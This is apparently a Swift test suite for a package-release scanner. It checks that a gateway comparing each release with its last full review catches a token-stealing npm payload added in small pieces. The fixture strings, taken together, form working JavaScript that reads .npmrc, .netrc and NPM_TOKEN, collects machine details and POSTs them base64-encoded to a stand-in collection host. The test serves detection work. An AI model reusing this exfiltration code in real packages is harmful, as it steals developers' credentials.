import Cryptography
import Registry
import Screening
import Testing

@testable import Analyzers

/// A chain of releases as a gateway keeps it: each is compared with the newest clean one, and with its anchor.
struct ReleaseChain {
    private var base: (artifact: Artifact, statement: StatementID, depth: Int)?
    private var anchor: (artifact: Artifact, statement: StatementID)?
    var thresholds = DiffThresholds.standard

    /// Judges a release and, when it is clean, goes on from it.
    mutating func judge(_ artifact: Artifact) -> IncrementVerdict {
        let step = compare(artifact, with: base?.artifact)
        let cumulative = base.map { $0.depth > 0 } == true ? compare(artifact, with: anchor?.artifact) : nil
        let standing = base.flatMap { base in
            anchor.map { anchor in
                IncrementBase(
                    sha512: SHA512Digest(hashing: base.artifact.bytes), statement: base.statement,
                    anchorStatement: anchor.statement, depth: base.depth)
            }
        }
        let verdict = IncrementVerdict(
            step: step, cumulative: cumulative, history: nil, base: standing, thresholds: thresholds)
        guard verdict.report.verdict == .clean else { return verdict }
        let statement = StatementID(digest: SHA256Digest(hashing: artifact.bytes))
        switch verdict.basis {
        case .full:
            anchor = (artifact, statement)
            base = (artifact, statement, 0)
        case .diff(_, _, _, let depth): base = (artifact, statement, depth)
        }
        return verdict
    }

    private func compare(_ artifact: Artifact, with other: Artifact?) -> IncrementReport {
        DiffAnalyzer.analyze(
            new: .memory(artifact.bytes), base: other.map { .memory($0.bytes) }, context: artifact.context,
            baseContext: other?.context, thresholds: thresholds)
    }
}

@Suite("A payload in small pieces")
struct BoilingFrogTests {
    /// A client of a service, which uses the network honestly.
    private static let client = """
        const https = require('https')
        exports.get = (path, then) => https.get({ host: 'api.acme.dev', path }, then)

        """

    /// What steals tokens and sends them away, in twelve pieces, each of which looks like a helper.
    private static let pieces = [
        "const os = require('os')\nexports.separator = os.EOL\n",
        "exports.home = () => os.homedir()\n",
        "const path = require('path')\nexports.inHome = (name) => path.join(exports.home(), name)\n",
        "const fs = require('fs')\nexports.text = (name) => fs.readFileSync(exports.inHome(name), 'utf8')\n",
        "exports.encode = (text) => Buffer.from(text).toString('base64')\n",
        "exports.agent = () => [os.hostname(), os.userInfo().username, os.platform(), os.networkInterfaces()]\n",
        "exports.options = () => ({ host: 'collect.acme-metrics.dev', method: 'POST', path: '/v1' })\n",
        "exports.post = (text) => https.request(exports.options()).end(text)\n",
        "exports.token = () => process.env.NPM_TOKEN\n",
        "exports.names = ['.npmrc', '.netrc']\n",
        "exports.gather = () => exports.names.map(exports.text).concat(exports.token(), exports.agent())\n",
        "exports.post(exports.encode(JSON.stringify(exports.gather())))\n",
    ]

    private func release(_ count: Int) throws -> Artifact {
        try npmRelease("1.\(count).0", [("index.js", Self.client + Self.pieces.prefix(count).joined())])
    }

    @Test("each piece alone is a clean difference")
    func pieces() throws {
        for count in 1..<Self.pieces.count {
            let step = ReleasePair(base: try release(count - 1), new: try release(count)).report()
            let held = (step.increment + step.difference).filter { $0.finding.severity > .info }
            #expect(held == [], "piece \(count)")
            #expect(step.triggers == [], "piece \(count)")
        }
    }

    @Test("the pieces are caught before they are whole, by what they have become since the full review")
    func caught() throws {
        var chain = ReleaseChain()
        #expect(chain.judge(try release(0)).report.verdict == .clean)
        var caught: (piece: Int, verdict: IncrementVerdict)?
        for count in 1...Self.pieces.count where caught == nil {
            let verdict = chain.judge(try release(count))
            if verdict.report.verdict > .clean { caught = (count, verdict) }
        }
        let found = try #require(caught)
        // Files of the home folder since the fourth piece, facts about the machine since the sixth, and now a place to
        // send them to: no step brought two of them.
        #expect(found.piece == 7)
        #expect(found.verdict.triggers == [.cumulative])
        #expect(found.verdict.basis == .full)
        let held = found.verdict.report.findings.map(\.finding).filter { $0.severity > .info }
        #expect(held.map(\.evidence) == ["capabilities-gather"])
    }

    @Test("without the comparison with the full review the next full review would come too late")
    func chainLimit() throws {
        // Ten differences may stand on one review: the eleventh is reviewed in full, the payload is whole at the twelfth.
        var chain = ReleaseChain()
        var reviewed: [Int] = []
        for count in 0...12 {
            let verdict = chain.judge(try npmRelease("1.\(count).0", [("index.js", honestFunctions(0..<(20 + count)))]))
            #expect(verdict.report.verdict == .clean)
            if verdict.basis == .full { reviewed.append(count) }
        }
        #expect(reviewed == [0, 11])
    }
}
